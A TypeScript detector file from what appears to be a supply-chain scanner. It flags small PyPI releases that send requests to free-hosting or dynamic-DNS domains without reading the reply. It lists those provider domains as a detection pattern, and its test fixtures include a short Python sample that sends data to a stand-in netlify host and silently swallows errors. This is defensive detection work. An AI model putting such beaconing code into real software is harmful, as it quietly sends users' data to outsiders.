import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, isCode, isMember, sight } from "./_sight.ts";

/** Where anybody gets a server under a name of the provider's, at no cost and without saying who he is. */
const HOSTS = [
  ".netlify.app",
  ".vercel.app",
  ".workers.dev",
  ".pages.dev",
  ".cloudfunctions.net",
  ".onrender.com",
  ".herokuapp.com",
  ".pythonanywhere.com",
  ".repl.co",
  ".replit.app",
  ".replit.dev",
  ".glitch.me",
  ".firebaseio.com",
  ".firebasedatabase.app",
  ".deno.dev",
  ".fly.dev",
  ".up.railway.app",
  ".000webhostapp.com",
  ".infinityfreeapp.com",
  ".duckdns.org",
  ".ddns.net",
  ".hopto.org",
  ".zapto.org",
  ".sytes.net",
] as const;
const HOST = new RegExp(
  `//[\\w.…-]{1,120}(?:${HOSTS.map((host) => host.replaceAll(".", "\\.")).join("|")})(?=[/:?…\\s]|$)`,
  "i",
);
/** A release of this many bytes of code has a purpose beside its server. */
const MOST_CODE = 60_000;

export const reportsToFreeHost: Detector = {
  id: "reports-to-free-host",
  title: "Tells a free host something and does not wait for an answer",
  severity: "high",
  ecosystems: ["pypi"],
  points: 5.6,
  class: "threat",
  group: "exfiltration-channel",
  why: `A small release calls an address at a provider where anybody gets a server for nothing, and nothing in it looks at the answer: the call is
there to tell that server something. Stealers and probes of recent years report that way, because the provider's name looks harmless and
can not be blocked.

Clients of a hobby service at such an address read what it says. Larger programs count their users that way.`,
  literals: HOSTS,
  *detect(tree) {
    let code = 0;
    for (const file of tree.files) if (isMember(file) && isCode(file)) code += file.bytes.length;
    if (code > MOST_CODE) return;
    for (const file of codeWith(tree, HOSTS)) {
      if (file.kind !== "python") continue;
      for (const deed of deedsOf(file, "http", "upload")) {
        const host = deed.command === undefined ? HOST.exec(addressOf(file, deed))?.[0] : undefined;
        if (host === undefined || !isUnread(file, deed)) continue;
        yield sight(file, deed.offset, `${deed.what} tells ${host} something`, { phase: deed.phase });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef check(data):\n    try:\n        requests.get(f'//demo.netlify.app/{data}')\n    except Exception:\n        pass\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef ask(q):\n    r = requests.get('//demo.netlify.app/', params=q)\n    return r.json()\n",
        },
      },
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "import requests\ndef ask(url, q):\n    requests.post(url, json=q)\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\nURL = '//demo.vercel.app/x'\ndef f(d):\n    answer = requests.post(URL, json=d)\n    return None\n",
        },
      },
    ],
  },
};

/** The constant text of the arguments; where it is not constant, what the function around writes into its variable. */
function addressOf({ text }: SourceFile, { text: said, words, offset }: Deed): string {
  if (HOST.test(said)) return said;
  const name = /^\(?\s{0,10}([A-Za-z_]\w{0,60})\s{0,4}[,)]?/.exec(words)?.[1];
  if (name === undefined) return "";
  return HOST.test(text.slice(Math.max(0, offset - 600), offset)) ? text.slice(Math.max(0, offset - 600), offset) : "";
}

/** Whether nothing looks at the answer: the call stands alone, or its variable is not named again before the next function. */
function isUnread({ text }: SourceFile, { ignored, offset }: Deed): boolean {
  if (ignored) return true;
  const line = text.slice(text.lastIndexOf("\n", offset - 1) + 1, offset);
  const name = /^[ \t]{0,80}([A-Za-z_]\w{0,60})[ \t]{0,4}=[ \t]{0,4}(?:await[ \t]{1,4})?$/.exec(line)?.[1];
  if (name === undefined) return false;
  const rest = text.slice(offset, offset + 3_000).split(/\n(?=[ \t]{0,20}(?:async )?def )/, 1)[0]!;
  return !new RegExp(`\\b${name}\\b`).test(rest);
}
